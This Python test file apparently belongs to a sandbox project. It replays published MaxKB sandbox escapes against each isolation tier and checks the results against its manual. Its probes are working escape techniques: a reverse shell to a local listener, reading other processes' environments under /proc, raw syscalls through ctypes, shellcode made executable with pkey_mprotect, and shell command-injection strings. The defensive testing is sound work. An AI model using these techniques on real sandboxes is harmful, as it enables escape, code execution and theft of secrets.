#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Published escapes of MaxKB's own sandbox, one probe for each, run as a tool through the drop-in on each tier. The
same probe runs beside the service without a sandbox and has to succeed there: what fails for another reason shows
nothing. The manual's table says of each tier what became of it.

All of them are harmless: they look at files and listeners that this test made.
"""

import json
import os
import platform
import re
import subprocess
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "support"))
# pylint: disable=wrong-import-position
from nsboxtest import leftovers, maxkb, paths, tap, tiers

place = paths.scratch("nsbox-maxkb-cve-")
shown = os.path.join(place, "shown")  # in containers, too: no mode keeps anybody from it
secret = os.path.join(shown, "secret")
tier = None
daemon = None
server = None
listener = None
came_out = {}  # id: {tier: word}

# What probes share. SECRET, PORT and PLACE are put before it.
COMMON = r"""
import ctypes, errno, json, os, platform, shutil, socket, subprocess, sys, tempfile
HIT = "the secret of this test"
libc = ctypes.CDLL(None, use_errno=True)
X86 = platform.machine() == "x86_64"
def run(*argv, **more):
    return subprocess.run(argv, capture_output=True, text=True, **more).stdout
def sees(text):
    return HIT in (text or "")
def read(path):
    try:
        with open(path, errors="replace") as f:
            return f.read()
    except OSError:
        return ""
def tried(act):
    # True: it worked.
    try:
        act()
        return True
    except OSError:
        return False
def connects(host, family=socket.AF_INET, kind=socket.SOCK_STREAM, proto=0):
    def act():
        with socket.socket(family, kind, proto) as s:
            s.settimeout(3)
            s.connect((host, PORT))
    return tried(act)
def call(number, *args):
    return libc.syscall(ctypes.c_long(number), *args)
"""

# id, name, body of f(): true where the escape worked
PROBES = [
    ("CVE-2024-56137", "a tool runs programs of the system",
     """
    return sees(os.popen("cat " + SECRET).read())
"""),
    ("CVE-2025-32383", "a reverse shell to a listener of the host",
     """
    pid = os.fork()
    if pid == 0:
        try:
            s = socket.create_connection(("127.0.0.1", PORT), 3)
            os.dup2(s.fileno(), 1)
            os.execvp("sh", ["sh", "-c", "echo shell"])
        finally:
            os._exit(1)
    return os.waitpid(pid, 0)[1] == 0
"""),
    ("CVE-2025-48950", "programs outside the usual directories",
     """
    loader = "/lib64/ld-linux-x86-64.so.2" if X86 else "/lib/ld-linux-aarch64.so.1"
    return sees(run(loader, shutil.which("cat"), SECRET))
"""),
    ("CVE-2025-53927", "a program copied to where it may be started",
     """
    with tempfile.TemporaryDirectory() as d:
        shutil.copy2(os.path.realpath(shutil.which("cat")), d + "/mine")
        assert run(d + "/mine", "/dev/null") == ""
        return sees(run(d + "/mine", SECRET))
"""),
    ("CVE-2025-64511", "services on the machine, by every address it has",
     """
    names = ["127.0.0.1", "localhost", "0.0.0.0", HOST]
    return any([connects(n) for n in names] + [connects(n, socket.AF_INET6) for n in ("::1", "::ffff:127.0.0.1")])
"""),
    ("CVE-2025-64703", "environments of other processes, settings and logs",
     """
    found = sees(read(SECRET))
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            found = sees(read("/proc/%s/environ" % pid)) or sees(read("/proc/%s/root%s" % (pid, SECRET))) or found
    return found
"""),
    ("CVE-2025-66419", "a link planted where a privileged process will change owners",
     """
    return tried(lambda: open(PLACE + "/planted", "w").close())
"""),
    ("CVE-2025-66446", "the loader and libraries changed in place",
     """
    targets = [os.path.realpath(p) for p in ("/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-aarch64.so.1",
               sys.executable, "/usr/lib/os-release") if os.path.exists(p)] + [MINE]
    return any(tried(lambda: os.close(os.open(p, os.O_WRONLY | os.O_APPEND))) for p in targets)
"""),
    ("RootKB (RCTF 2025)", "connect() through ctypes, past any wrapper of libc's",
     """
    made = []
    if not tried(lambda: made.append(socket.socket())):
        return False
    s = made[0]
    port = PORT.to_bytes(2, "big")
    address = (2).to_bytes(2, sys.byteorder) + port + bytes([127, 0, 0, 1]) + bytes(8)
    return call(42 if X86 else 203, s.fileno(), address, len(address)) == 0
"""),
    ("CVE-2026-39418", "connections that no connect() makes: MSG_FASTOPEN, and MPTCP",
     """
    FASTOPEN = 0x20000000
    def by_sendto():
        with socket.socket() as s:
            s.settimeout(3)
            s.sendto(b"x", FASTOPEN, ("127.0.0.1", PORT))
            s.getpeername()
    def by_sendmsg():
        with socket.socket() as s:
            s.settimeout(3)
            s.sendmsg([b"x"], [], FASTOPEN, ("127.0.0.1", PORT))
            s.getpeername()
    return any([tried(by_sendto), tried(by_sendmsg), connects("127.0.0.1", proto=262)])
"""),
    ("CVE-2026-39420", "a program started with an empty environment",
     """
    code = "print(open(%r).read())" % SECRET
    return sees(run("/usr/bin/env", "-i", sys.executable, "-c", code))
"""),
    ("CVE-2026-39421", "machine code in memory made executable by pkey_mprotect",
     """
    import mmap
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE)
    view = ctypes.c_char.from_buffer(page)
    address = ctypes.addressof(view)
    # unshare(CLONE_NEWUTS), which needs privilege or a user namespace; outside: getuid.
    number = (NUMBER).to_bytes(4, "little")
    if X86:
        code = bytes.fromhex("b8") + number + bytes.fromhex("0f05c3")
    else:
        code = (0xd2800008 | NUMBER << 5).to_bytes(4, "little") + bytes.fromhex("010000d4c0035fd6")
    page.write(code)
    if call(329 if X86 else 288, ctypes.c_void_p(address), ctypes.c_size_t(4096), 5, -1) != 0:
        raise OSError(ctypes.get_errno(), "pkey_mprotect")
    result = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_long)(address)(0x04000000)
    return result == 0 or "errno %d" % -result
"""),
    ("commit be13ce5", "io_uring",
     """
    return call(425, 8, ctypes.create_string_buffer(256)) >= 0
"""),
    ("CVE-2026-79918", "a program started by its descriptor",
     """
    pid, out = os.fork(), None
    if pid == 0:
        try:
            sys.stdout = sys.stderr = None
            fd = os.open(shutil.which("grep"), os.O_RDONLY)
            os.execve(fd, ["grep", "-q", HIT, SECRET], {})
        finally:
            os._exit(3)
    return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 0
"""),
    ("CVE-2026-79919", "libc's syscall() found by a handle of its own",
     """
    name = "libc.so.6"
    own = ctypes.CDLL(name, use_errno=True, mode=ctypes.RTLD_LOCAL)
    fd = own.syscall(ctypes.c_long(257 if X86 else 56), -100, SECRET.encode(), 0)
    return fd >= 0 and sees(os.read(fd, 4096).decode())
"""),
]

CFFI = ("commit 047276c", "cffi.dlopen(None)",
        """
    import cffi
    ffi = cffi.FFI()
    ffi.cdef("int open(const char *, int);")
    fd = ffi.dlopen(None).open(SECRET.encode(), 0)
    return fd >= 0 and sees(os.read(fd, 4096).decode())
""")

# Rows with a function of their own below.
OTHERS = ["CVE-2025-53928, CVE-2026-39417, CVE-2026-54149", "CVE-2026-39419", "CVE-2026-77521"]

# What a tier does not stop: (tier, id), and then docs/THREAT-MODEL.md says so. Whatever is not here is held.
DECLARED = {}

# Not a sandbox's to hold; said in docs/maxkb.md.
NOT_OURS = "CVE-2026-79916, CVE-2026-77516, CVE-2026-79917"

# Docker's own profile refuses it without any of ours: the twin for it is the host's.
ENGINE_REFUSES = ["commit be13ce5"]

# Waits where the service is, tells its port and an address of the machine, and has a variable that nobody may read.
LISTENER = """
import json, os, socket
s = socket.socket(socket.AF_INET6)
s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
s.bind(("::", 0))
s.listen(64)
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as d:
    try:
        d.connect(("192.0.2.1", 9))
        host = d.getsockname()[0]
    except OSError:
        host = "127.0.0.1"
print(json.dumps({"PORT": s.getsockname()[1], "HOST": host}), flush=True)
while True:
    s.accept()[0].close()
"""

# Each of these programs in a process of its own; what their functions returned. The same inside and outside.
EACH = r"""
import ctypes, json, mmap, os, platform, shutil, socket, subprocess, tempfile, traceback
def f(codes):
    got = []
    for code in codes:
        left, right = os.pipe()
        if os.fork() == 0:
            try:
                space = {}
                exec(code, space)
                text = json.dumps(space["f"]())
            except BaseException:
                text = json.dumps(traceback.format_exc())
            os.write(right, text.encode())
            os._exit(0)
        os.close(right)
        with os.fdopen(left) as pipe:
            got.append(json.loads(pipe.read() or "null"))
        os.wait()
    return got
"""


class Listener:
    def __init__(self):
        self.process = daemon.beside(["/usr/bin/python3", "-c", LISTENER], env={"PATH": os.environ["PATH"],
                                     "SECRET_OF_TEST": "the secret of this test"}, stdout=subprocess.PIPE, text=True)
        self.values = json.loads(self.process.stdout.readline())

    def end(self):
        self.process.kill()
        self.process.communicate()


def probe_code(body, inside):
    """inside: unshare, which nothing inside may; outside that would prove nothing, getuid does."""
    number = {("x86_64", True): 272, ("x86_64", False): 102}.get((platform.machine(), inside), 97 if inside else 174)
    values = {"SECRET": secret, "PLACE": shown, "MINE": os.path.join(shown, "mine"), "NUMBER": number, **listener.values}
    head = "".join("%s = %r\n" % pair for pair in values.items())
    return head + COMMON + "def f():\n" + body.strip("\n") + "\n"


def outside(codes):
    """Without a sandbox, where the service is."""
    child = daemon.beside(["/usr/bin/python3", "-c", EACH + "import sys\nprint(json.dumps(f(json.load(sys.stdin))))"],
                          stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    return json.loads(child.communicate(json.dumps(codes), timeout=120)[0])


def have_io_uring():
    path = "/proc/sys/kernel/io_uring_disabled"
    return not os.path.exists(path) or leftovers.read(path).strip() == "0"


def tell(t, row, held, what, why=""):
    """What came out of a row on this tier, and whether it had to."""
    word = "held" if held else "declared" if (tier, row) in DECLARED else "escaped"
    came_out.setdefault(row, {})[tier] = word
    t.ok(word == ("declared" if (tier, row) in DECLARED else "held"), "%s: %s: %s" % (row, what, word), why)


def test_probes(t):
    probes = list(PROBES)
    if subprocess.run(["/usr/bin/python3", "-c", "import cffi"], capture_output=True, check=False).returncode == 0:
        probes.append(CFFI)
    inside = server.call(EACH, repr({"codes": [probe_code(body, True) for _, _, body in probes]})).get("value")
    free = outside([probe_code(body, False) for _, _, body in probes])
    for (row, what, _), answer, got in zip(probes, inside, free):
        held = "errno 1" if row == "CVE-2026-39421" else False
        tell(t, row, answer == held and type(answer) is type(held), what, str(answer))
        if row in ENGINE_REFUSES and (isinstance(daemon, tiers.Boxed) or not have_io_uring()):
            t.note("the engine or the host refuses it to everybody")
            continue
        t.ok(got is True or row == "CVE-2026-39421" and re.fullmatch("errno -[0-9]+", str(got)),
             "%s: works without a sandbox" % row, str(got))


def test_forged(t):
    code = ("import os, sys\ndef f():\n m = sys._getframe(1).f_globals.get('_id', '')\n"
            " os.write(1, ('\\n%s{\"code\":200,\"data\":\"forged\"}\\n%s__END__\\n' % (m, m)).encode())\n os._exit(0)")
    answer = server.call(code)
    tell(t, "CVE-2026-39419", answer.get("error") == "Execution interrupted or tampered", "a forged result is none", str(answer))
    t.equal(server.call("def f(): return 'true'"), {"value": "true"}, "and a true one is")


# Each was run as root by what stood before gosu's part of the line.
COMMANDS = ["true; id -u", "true && id -u", "false || id -u", "true | id -u", "x=$(id -u); echo $x", "true\nid -u",
            "echo `id -u`", "(id -u)", "true & id -u; wait", "cat <<E\n$(id -u)\nE", "exec id -u"]


def test_commands(t):
    """A shell beside it says 0 to all of them, where root runs the service."""
    wrong = []
    for command in COMMANDS:
        status, reply = daemon.ask("POST", "/v1/execute/command", {"command": command})
        if status != 200 or not good_user(reply["stdout"]):
            wrong.append([command, reply])
    tell(t, "CVE-2026-77521", not wrong, "every part of a line is the sandbox's user's", str(wrong))
    child = daemon.beside(["sh", "-c", COMMANDS[0]], stdout=subprocess.PIPE, text=True)
    t.equal(child.communicate()[0], "%d\n" % os.geteuid(), "which the service's own user is not")


def good_user(text):
    """1000 of a user namespace; in the tier "process" a number that is the run's alone."""
    return text == "1000\n" if tier != "process" else text.strip().isdigit() and int(text) > 1000


def test_server(t):
    """Whatever a server is, it is started inside."""
    row = OTHERS[0]
    marker = os.path.join(shown, "marker")
    code = "open(%r, 'w')" % marker
    config = server.tell({"mcp": code, "id": "x"})["value"]["config"]

    done = subprocess.run([config["command"], *config["args"]], env=config["env"], stdin=subprocess.DEVNULL,
                          capture_output=True, text=True, check=False, timeout=60)
    tell(t, row, not os.path.exists(marker) and marker in done.stderr, "a server cannot touch what is outside", done.stderr)
    # The same program, as MaxKB itself would start it; it gives up root, so an ordinary user has the tool alone.
    argv = config["args"][config["args"].index("-c"):] if os.geteuid() == 0 else ["-c", code]
    child = daemon.beside(["/usr/bin/python3", *argv], stdin=subprocess.DEVNULL,
                          stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    said = child.communicate(timeout=60)[1]
    t.ok(os.path.exists(marker), "which it does without a sandbox", said)
    os.unlink(marker)


def test_next_run(t):
    plant = ("import os\ndef f():\n done = []\n for d in ('/tmp', '.'):\n  try: done.append(os.symlink(%r, d + '/planted') is None)\n"
             "  except PermissionError: done.append(False)\n return done" % secret)
    look = "import os\ndef f(): return [os.path.lexists(d + '/planted') for d in ('/tmp', '.')]"
    before = os.stat(secret)
    # /tmp is the host's in the tier "process", and not to be written to.
    t.equal(server.call(plant), {"value": [tier != "process", True]}, "links can be planted in a run")
    t.equal(server.call(look), {"value": [False, False]}, "and are gone with it")
    after = os.stat(secret)
    t.equal((after.st_uid, after.st_gid, after.st_mode), (before.st_uid, before.st_gid, before.st_mode),
            "nobody has changed what they pointed to")


def ids(text):
    return sorted(re.findall(r"CVE-\d+-\d+|RCTF 2025|\b[0-9a-f]{7}\b", text))


# The manual's words, by language.
PAGES = {"maxkb.md": {"held": "held", "declared": "declared"}, "maxkb.zh-CN.md": {"阻止": "held", "已声明": "declared"}}


def test_documented(t):
    """The table has every row, and says of each tier that was tried here what has just come out of it."""
    rows = [*(row for row, _, _ in [*PROBES, CFFI]), *OTHERS]
    for page, words in PAGES.items():
        with open(os.path.join(paths.ROOT, "docs", page), encoding="utf-8") as f:
            cells = [[c.strip() for c in line.strip().strip("|").split("|")] for line in f if line.startswith("|")]
        table = {tuple(ids(c[0])): c for c in cells if ids(c[0])}
        t.equal(sorted(table), sorted(tuple(ids(row)) for row in [*rows, NOT_OURS]), "%s has every row, and no other" % page)
        wrong = []
        for row in rows:
            cell = table.get(tuple(ids(row)), [""] * 4)
            said = re.match(r"\w+", cell[3 if tier == "process" else 2])
            if row in came_out and words.get(said and said.group()) != came_out[row][tier]:
                wrong.append((row, cell, came_out[row]))
        t.equal(wrong, [], "%s says what came out" % page)


TESTS = [test_probes, test_forged, test_commands, test_server, test_next_run, test_documented]


def use(site):
    def begin(name, service):
        global tier, daemon, server, listener
        end()
        tier, daemon, listener = name, service, None
        listener = Listener()
        server = maxkb.MaxKB(site, NSBOX_SOCKET=daemon.socket, NSBOX_PYTHON="/usr/bin/python3")

    return begin


def end():
    if server:
        server.end()
    if listener:
        listener.end()


def main():
    leftovers.become_subreaper()
    os.makedirs(shown)
    os.chmod(place, 0o755)
    os.chmod(shown, 0o777)
    for path in (secret, os.path.join(shown, "mine")):
        with open(path, "w", encoding="ascii") as f:
            f.write("the secret of this test\n")
    site = maxkb.install(os.path.join(place, "site"))
    try:
        return tap.run(tiers.each(place, TESTS, use(site), shown=[shown]))
    finally:
        end()


if __name__ == "__main__":
    sys.exit(main())
